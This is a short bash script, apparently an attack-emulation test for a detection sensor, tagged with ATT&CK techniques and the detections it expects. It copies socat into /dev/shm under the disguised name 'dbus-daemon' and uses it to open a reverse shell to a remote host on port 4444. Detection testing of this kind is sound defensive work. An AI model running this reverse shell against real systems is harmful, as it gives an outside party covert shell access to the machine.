#!/usr/bin/env bash
# tactic: command-and-control
# technique: T1095 Non-Application Layer Protocol; T1036.003 Rename System Utilities
# behaviour: copies socat into /dev/shm under a daemon-like name and uses it to hand a shell to the operator
# as: user
# needs: remote
# expect: reverse_shell, exec_from_writable, masquerade
set -u
d="/dev/shm/sntl-$SNTL_ID"; mkdir -p "$d"; trap 'rm -rf "$d"' EXIT
cp /usr/bin/socat "$d/dbus-daemon"
timeout 20 "$d/dbus-daemon" "TCP:$SNTL_REMOTE:4444" EXEC:/bin/sh 2>/dev/null || true
